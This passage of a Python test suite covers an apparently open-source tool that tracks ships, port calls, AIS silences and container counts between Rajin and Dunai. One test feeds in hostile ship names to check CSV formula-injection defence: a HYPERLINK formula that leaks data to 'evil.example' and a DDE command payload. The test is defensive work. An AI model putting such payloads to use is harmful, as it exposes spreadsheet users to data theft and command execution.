    assert shuttle.get_container_range(trips, capacity=400)["estimate"] == 400


def test_claims_table_gives_a_claim_tested_against_both_ends_one_verdict():
    from tumen.report import claims

    published = claims.read_claims(Path(__file__).parents[1] / "data" / "claims.csv")
    values = {
        "shuttle.round_trips_total": 7,
        "shuttle.first_dark_call": "2023-08-16T02:05:00Z",
        "shuttle.last_dark_call": "2023-10-13T09:00:00Z",
        "shuttle.containers_low": 739,
        "shuttle.containers_high": 1961,
        "shuttle.containers_check_max": 305,
    }
    table = shuttle.compare_claims(published, values)
    assert table.index.tolist() == list(dict.fromkeys(c for c, *_ in shuttle.CLAIM_TESTS))
    assert "agrees" not in table.columns
    # >= 5 trips; 16 Aug in 11-20 Aug; 13 Oct before 14 Oct; 739 in 200-999; 739 > 1,000
    # no but 1,961 > 1,000 yes: one verdict, indeterminate; 305 within 10 % of 300
    assert table["verdict"].tolist() == [
        "consistent",
        "consistent",
        "inconsistent",
        "consistent",
        "indeterminate",
        "consistent",
    ]
    both = table.loc[table.index[4]]
    assert (
        both["reproduced"].startswith("739 containers (low end") and "1,961" in both["reproduced"]
    )
    assert not table["calibration"].any()
    synthetic = shuttle.compare_claims(published, values, synthetic=True)
    assert synthetic["calibration"].all()
    assert synthetic["label"].iloc[0] == "reproduced (calibration)"
    assert set(shuttle.CLAIM_IDS) <= set(published.index)


def test_port_call_display_and_file(tmp_path, calls):
    table = shuttle.to_port_call_display(calls, {"rajin_port": "Rajin", "dunai_port": "Dunai"})
    assert table.columns.tolist() == [
        "call",
        "vessel",
        "port",
        "arrived after",
        "seen",
        "left before",
        "evidence",
        "containers",
        "AIS dark",
    ]
    nbsp = lambda text: text.replace(" ", "\u00a0")  # noqa: E731
    assert table.iloc[1].tolist() == [
        2,
        "Angara",
        "Rajin",
        nbsp("01 Sep 06:00"),
        nbsp("03 Sep 03:00") + " – " + nbsp("03 Sep 09:00"),
        nbsp("05 Sep 06:00"),
        "2 images",
        "120–150",
        "yes",
    ]
    assert table.iloc[4]["seen"] == nbsp("09 Sep 06:00")  # one image: one time
    assert table.iloc[0][["arrived after", "evidence", "containers", "AIS dark"]].tolist() == [
        "",
        "AIS (3 fixes)",
        "",
        "no",
    ]
    assert table.iloc[2][["evidence", "containers"]].tolist() == ["AIS (2 fixes), 1 image", "140"]
    path = tmp_path / "calls.csv"
    shuttle.write_port_calls(calls, path, {"rajin_port": "Rajin"})
    raw = path.read_bytes()
    assert b"\r" not in raw and raw.startswith(b"call_id,vessel,site,port,")
    assert len(raw.decode("utf-8").splitlines()) == len(calls) + 1


def test_port_calls_file_neutralises_formulas_from_ship_names(tmp_path, calls):
    """A ship that broadcasts a spreadsheet formula as its name gets it written as text."""
    import csv

    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Angara")'
    hostile = calls.assign(
        vessel=[evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "Maria"] * (len(calls) // 5)
        + ["Maria"] * (len(calls) % 5)
    )
    path = tmp_path / "calls.csv"
    shuttle.write_port_calls(hostile, path, {"rajin_port": "Rajin"})
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    names = [r["vessel"] for r in rows]
    assert names[:5] == ["'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "Maria"]
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    # numbers stay numbers
    assert all(r["call_id"].lstrip("-").isdigit() for r in rows)


def test_describe_range():
    assert shuttle.describe_range(700, 1900, 1000) == "between the low and the high end"
    assert shuttle.describe_range(1200, 1900, 1000) == "below the low end"
    assert shuttle.describe_range(700, 900, 1000) == "above the high end"
    assert shuttle.describe_range(700, None, 1000) == "beside a range with an unknown end"


def test_brief_transmissions_stay_visible_on_the_timeline(gaps, calls, sightings):
    pos = pd.DataFrame({"vessel": "Angara", "time": [h(50)], "lat": 42.5, "lon": 131.0})
    fig = shuttle.plot_timeline(pos, gaps, calls, sightings, vessels=["Angara"], window=WINDOW)
    bars = [
        p
        for c in fig.axes[0].collections
        for p in c.get_paths()
        if len(c.get_facecolor()) and tuple(c.get_facecolor()[0][:3]) == (0x55 / 255,) * 3
    ]
    widths = [np.ptp(p.vertices[:, 0]) for p in bars]
    assert widths == pytest.approx([216 / 200 / 24])  # one lone fix: 1/200 of the 9-day axis


def test_route_map(sites, gaps, sightings, positions):
    from types import SimpleNamespace

    from tumen.geo import gazetteer

    gazetteer = gazetteer.load_sites()
    route = SimpleNamespace(
        lat=np.array([42.2322, 42.1812, 42.8575, 42.8891]),
        lon=np.array([130.2947, 130.3923, 132.3645, 132.3589]),
        snaps=(),
    )
    grid = ais_clean.to_density_grid(
        positions, np.arange(42.0, 43.01, 0.1), np.arange(130.0, 132.81, 0.1)
    )
    fig = shuttle.plot_route_map(
        route,
        gazetteer,
        ["rajin_port", "dunai_port"],
        density=grid,
        gaps=gaps,
        sightings=sightings,
        vessels=VESSELS,
        positions=positions,
        insets=[(0.01, 0.6, 0.2, 0.38)],
        labels={"rajin_port": "Rajin", "dunai_port": "Dunai"},
    )
    ax = fig.axes[0]
    labels = [t.get_text() for t in ax.get_legend().get_texts()]
    assert labels == [
        "Shortest water route between the ports",
        "Port geofence (insets: Natural Earth 1:10m coastline)",
        "Last AIS fix before a silence",
        "First AIS fix after it",
        "Seen at sea in a satellite image",
        "Angara",
        "Maria",
    ]
    assert len(fig.axes) == 2 and len(ax.child_axes) == 1  # map, port inset; colour bar
    assert {"Rajin", "Dunai"} <= {t.get_text() for t in ax.texts}
    # the port inset has its own scale bar (10 km across: a 2 km bar at 0.4 of its width)
    # and is drawn from the 1:10m Natural Earth layers
    inset = ax.child_axes[0] if hasattr(ax.child_axes[0], "projection") else fig.axes[1]
    assert [t.get_text() for t in inset.texts if t.get_text()[0].isdigit()] == ["2 km"]
    scales = {getattr(getattr(c, "_feature", None), "scale", None) for c in inset.collections}
    assert "10m" in scales
    # the legend sits below the map, where it covers no track, fix or sighting
    renderer = fig.canvas.get_renderer()
    assert ax.get_legend().get_window_extent(renderer).y1 <= ax.get_window_extent(renderer).y0


# --- any ships, any ports -------------------------------------------------------------------


def test_check_vessels_and_result_names():
    assert shuttle.check_vessels(["SPARTA IV", "mmsi:273111111"]) == ["SPARTA IV", "mmsi:273111111"]
    assert [shuttle.to_result_name(v) for v in ("Angara", "SPARTA IV", "mmsi:273111111")] == [
        "angara",
        "sparta_iv",
        "mmsi_273111111",
    ]
    for bad in ([], "Angara", ["Maria", "MARIA"], ["mmsi:12"]):
        with pytest.raises(DataError):
            shuttle.check_vessels(bad)


def test_label_sightings_by_entry_broadcast_name_and_imo():
    s = pd.DataFrame(
        {
            "vessel": ["ANGARA", "Kestrel", "Maria", "maria", "Other"],
            "imo": [pd.NA, pd.NA, 9000002, pd.NA, pd.NA],
            "observed": [h(1), h(2), h(3), h(4), h(5)],
        }
    )
    fleet = pd.DataFrame({"vessel": ["mmsi:273000001"], "mmsi": [273000001]})
    static = pd.DataFrame({"mmsi": [273000001], "name": ["ANGARA"]})
    out = shuttle.label_sightings(s, ["mmsi:273000001", "imo:9000002"], fleet, static)
    # Angara through the name its MMSI broadcasts; Maria by IMO, and the row without an IMO
    # through the name the numbered row gives; Kestrel and Other are not of interest
    assert out["vessel"].tolist() == ["mmsi:273000001", "imo:9000002", "imo:9000002"]
    assert out["observed"].tolist() == [h(1), h(3), h(4)]
    with pytest.raises(DataError, match="two entries"):
        shuttle.label_sightings(s, ["Maria", "imo:9000002"], fleet.iloc[:0], None)


def test_map_extent_given_or_framing_ports_and_tracks():
    ports = {
        "a": {"lat": 42.0, "lon": 130.0, "radius_km": 1},
        "b": {"lat": 42.0, "lon": 132.0, "radius_km": 1},
    }
    assert shuttle.get_map_extent([1, 2, 3, 4], ports, ["a", "b"]) == (1.0, 2.0, 3.0, 4.0)
    lon0, lon1, lat0, lat1 = shuttle.get_map_extent([], ports, ["a", "b"])
    assert lon0 < 130.0 and lon1 > 132.0 and lat0 < 42.0 < lat1
    # neither side shorter than half the other, in km (1 degree of lon = cos(42°) of lat)
    assert (lat1 - lat0) >= 0.5 * (lon1 - lon0) * np.cos(np.radians(42.0)) - 1e-9
    track = pd.DataFrame({"lat": [43.5], "lon": [131.0]})
    assert shuttle.get_map_extent([], ports, ["a", "b"], positions=track)[3] > 43.5
    with pytest.raises(DataError):
        shuttle.get_map_extent([1, 2, 3], ports, ["a", "b"])


def test_port_names_from_the_gazetteer(sites):
    names, short = shuttle.get_port_names(
        {
            "p": {"name": "Plover port terminal", "lat": 0, "lon": 0, "radius_km": 1},
            "q": {"name": "Port Alder", "lat": 0, "lon": 0, "radius_km": 1},
            "r": {"name": "Rajin (Najin) port", "lat": 0, "lon": 0, "radius_km": 1},
        },
        ["p", "q", "r"],
    )
    assert names == {"p": "Plover port terminal", "q": "Port Alder", "r": "Rajin"}
    assert short == {"p": "Plover", "q": "Port Alder", "r": "Rajin"}


def test_sea_route_that_cannot_be_computed_is_none_with_a_reason(tmp_path):
    """Two ports on seas about 2,500 km apart (the Aegean and the Caspian): far too large a
    grid for a coastal leg, so no route and the reason in words."""
    from tumen.geo import gazetteer

    (tmp_path / "sites.csv").write_text(
        "id,name,country,kind,lat,lon,radius_km,uncertainty_km,source\n"
        "x_port,X port,GRC,port,37.94,23.63,2,1,test\ny_port,Y port,AZE,port,40.33,49.90,2,1,test\n"
    )
    route, why = shuttle.get_sea_route(
        "x_port", "y_port", gazetteer.load_sites(tmp_path / "sites.csv")
    )
    assert route is None and "too large for a coastal leg" in why


def test_plots_draw_the_empty_cases(sites):
    empty = shuttle.get_deliveries(
        pd.DataFrame(
            columns=[
                "vessel",
                "site",
                "first_evidence",
                "last_evidence",
                "call_id",
                "containers_min",
                "containers_max",
            ]
        ),
        "rajin_port",
        "dunai_port",
    )
    fig = shuttle.plot_containers(empty)
    assert "No delivery" in " ".join(t.get_text() for t in fig.axes[0].texts)


def test_a_time_outside_the_nanosecond_range_is_an_unreadable_time(tmp_path):
    """Found by hypothesis: "0000" parses as the year 0, which has no nanosecond timestamp;
    it must be the usual one-line error naming file, line and field, not a pandas crash."""
    from tumen.errors import DataError

    path = tmp_path / "s.csv"
    path.write_text("vessel,observed,site\nKestrel,0000,wren\n")
    sites = pd.DataFrame({"id": ["wren"], "lat": [42.6], "lon": [131.1], "radius_km": [2.0]})
    with pytest.raises(DataError) as err:
        shuttle.read_sightings(path, sites)
    assert err.value.line == 2 and err.value.field == "observed"
